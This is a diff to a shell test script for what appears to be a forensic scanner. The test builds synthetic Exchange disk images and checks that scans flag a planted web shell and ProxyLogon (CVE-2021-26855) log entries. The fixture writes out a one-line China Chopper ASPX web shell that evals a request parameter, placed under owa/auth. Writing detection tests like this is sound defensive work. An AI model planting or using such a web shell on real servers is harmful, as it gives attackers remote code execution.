@@ -47,6 +47,33 @@ exch_lines() {
 	printf '%s\n' 'file \Exchange\Bin\ExSetup.exe from:ExSetup.exe'
 }
 
+# attacked_lines: a China Chopper page and a ProxyLogon HttpProxy log on the
+# Exchange volume (the logs from mklogs, in $D/logs; from: is relative to
+# the spec in $D).
+attacked_lines() {
+	printf 'file \\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx text:%s\n' \
+	    '<script language="JScript" runat="server">function Page_Load(){eval(Request["pw"],"unsafe");}</script>\r\n'
+	printf 'file \\Exchange\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG from:%s\n' \
+	    "logs/Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
+}
+
+# scan_e WHAT ARGS...: a full scan; the shell on E: is an alert, the
+# HttpProxy log on E: was analysed, the verdict comes from ExSetup.exe on E:.
+scan_e() {
+	what=$1
+	shift
+	run scan --out "$TMP/s-out" "$@"
+	[ "$RC" -eq 1 ] &&
+	    grep '"path":"E:\\\\Exchange\\\\FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\x.aspx"' \
+	    "$TMP/s-out/findings.jsonl" | grep -q '"level":"alert"'
+	ok $? "$what: the shell in E:/Exchange/.../owa/auth is an alert"
+	grep -q 'E:\\\\Exchange\\\\Logging\\\\HttpProxy\\\\Ecp\\\\HttpProxy_2021030306-1.LOG.*CVE-2021-26855' \
+	    "$TMP/s-out/findings.jsonl"
+	ok $? "$what: the ProxyLogon requests in the HttpProxy log on E: are findings"
+	grep -q '^patch: ProxyNotShell: fixed.*15.2.1118.20' "$TMP/s-out/summary.txt"
+	ok $? "$what: the verdict comes from ExSetup.exe on E:"
+}
+
 # profile_e WHAT ARGS...: exhume profile --json; ExSetup.exe read from
 # E:\Exchange proves E: is the Exchange volume.
 profile_e() {
@@ -58,6 +85,7 @@ profile_e() {
 }
 
 mkdir -p "$D"
+"$TOOLS/mklogs" "$D/logs" >/dev/null &&
 "$TOOLS/mkhive" "$H/software.spec" "$D/SOFTWARE" &&
 "$TOOLS/mkpe" "$(cat "$H/exsetup.version")" "$D/ExSetup.exe" &&
 cp "$H/applicationHost.config" "$D/"
@@ -134,6 +162,7 @@ hives swap "binary \\MountedDevices \\DosDevices\\E:=hex:$SIG1_LE,$OFF_1M" \
 	echo "disk mbr size=40M id=$SIG1"
 	echo "part ntfs start=2048 size=8M label=EXCH"
 	exch_lines
+	attacked_lines
 	echo "part ntfs start=18432 size=24M label=SYSTEM"
 	system_lines swap
 } >"$D/c.spec"
@@ -147,6 +176,7 @@ ok $? "partition 1 is E:, partition 2 is C:"
 run scan --no-logs --out "$TMP/c-out" "$TMP/c.img"
 has "$TMP/c-out/report.html" 'MountedDevices'
 ok $? "report: the volume table says where the letters came from"
+scan_e "data partition first" "$TMP/c.img"
 
 # (d) two disks as two image files: system on disk 1, Exchange on disk 2.
 hives two "binary \\MountedDevices \\DosDevices\\C:=hex:$SIG1_LE,$OFF_1M" \
@@ -160,6 +190,7 @@ hives two "binary \\MountedDevices \\DosDevices\\C:=hex:$SIG1_LE,$OFF_1M" \
 	echo "disk mbr size=16M id=$SIG2"
 	echo "part ntfs start=2048 size=8M label=EXCH"
 	exch_lines
+	attacked_lines
 } >"$D/d2.spec"
 mkimage "$D/d1.spec" "$TMP/d1.img" && mkimage "$D/d2.spec" "$TMP/d2.img"
 ok $? "two-disk images built"
@@ -167,6 +198,7 @@ IMAGES="$TMP/d1.img $TMP/d2.img"
 profile_e "two disks, E: on the second" "$TMP/d2.img" "$TMP/d1.img"
 has "$TMP/err" 'd2.img: partition 1: drive letter E: from MountedDevices (MBR disk 2468ace0 at offset 1048576)'
 ok $? "two disks: the second disk's partition is E: by its own signature"
+scan_e "two disks" "$TMP/d1.img" "$TMP/d2.img"
 
 # (f) hostile values: wrong sizes, two letters for one partition, letters
 # outside C..Z, a control character in a name.  (Two values for one letter
